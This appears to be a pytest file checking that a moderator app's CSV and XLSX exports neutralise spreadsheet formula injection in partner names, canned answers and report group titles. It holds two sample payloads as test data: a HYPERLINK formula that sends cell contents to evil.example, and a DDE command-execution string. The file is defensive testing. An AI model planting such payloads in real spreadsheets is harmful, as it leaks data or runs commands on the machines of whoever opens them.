"""Exports never hand a spreadsheet a formula: CSV cells that would start one are quoted (OWASP's advice) and
read back unchanged by our own importers; XLSX text cells are stored as text. Names, answers and group titles
come from other people (issue: hardening, item 4)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from moderator_app.domain.cells import FORMULA_STARTS, csv_text, from_csv_text
from moderator_app.domain.library import CannedAnswer
from moderator_app.domain.referrals import ReferralOrganization
from moderator_app.domain.statistics import Month, Report
from moderator_app.importers.library_files import read_library, write_library
from moderator_app.importers.referral_files import read_referrals, write_referrals
from moderator_app.reports.csv_report import write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click for your benefits")'
DDE = "=cmd|' /C calc'!A0"
PARTNER = ReferralOrganization(
    HYPERLINK,
    ("@admin", "-2+3", "+1 for rent help"),
    "+1 613-555-0142",
    "chc.example.org",
    ("health",),
    ("en",),
)
ANSWER = CannedAnswer(
    "@everyone read this", "bus", {"en": DDE, "fr": "- apportez une pièce d'identité"}, ("transportation",)
)


def _csv_cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(path: Path) -> list[tuple[object, str]]:
    book = openpyxl.load_workbook(path)
    try:
        return [(cell.value, cell.data_type) for row in book.worksheets[0].iter_rows() for cell in row]
    finally:
        book.close()


def test_a_partner_named_as_a_formula_stays_text_and_comes_back(tmp_path: Path) -> None:
    as_csv = tmp_path / "partners.csv"
    write_referrals(as_csv, [PARTNER])
    cells = _csv_cells(as_csv)
    assert "'" + HYPERLINK in cells and "'@admin|-2+3|+1 for rent help" in cells and "'+1 613-555-0142" in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    assert read_referrals(as_csv)[0] == [PARTNER]

    as_xlsx = tmp_path / "partners.xlsx"
    write_referrals(as_xlsx, [PARTNER])
    typed = _xlsx_cells(as_xlsx)
    assert (HYPERLINK, "s") in typed
    assert not any(kind == "f" for _, kind in typed)
    assert read_referrals(as_xlsx)[0] == [PARTNER]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_canned_answer_written_as_a_formula_stays_text_and_comes_back(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"library{suffix}"
    write_library(path, [ANSWER])
    if suffix == ".csv":
        cells = _csv_cells(path)
        assert "'" + DDE in cells and "'@everyone read this" in cells
        assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    else:
        typed = _xlsx_cells(path)
        assert (DDE, "s") in typed and not any(kind == "f" for _, kind in typed)
    assert read_library(path) == [ANSWER]


def test_a_group_titled_as_a_formula_is_quoted_in_the_report_csv(tmp_path: Path) -> None:
    month = Month(2026, 11)
    report = Report(periods=[month], sources=[DDE], timezone="America/Toronto", breakdown_keys={"moderator": ["=1+1"]})
    report.set(month, DDE, "inquiries", 3)
    report.set(month, "all", "inquiries_moderator:=1+1", 3)
    path = tmp_path / "month.csv"
    write_csv(report, path)
    cells = _csv_cells(path)
    assert "'" + DDE in cells and DDE not in cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


@given(st.text(max_size=30))
def test_quoting_is_undone_exactly_and_leaves_nothing_a_spreadsheet_evaluates(value: str) -> None:
    quoted = csv_text(value)
    assert from_csv_text(quoted) == value
    assert not quoted.startswith(FORMULA_STARTS)
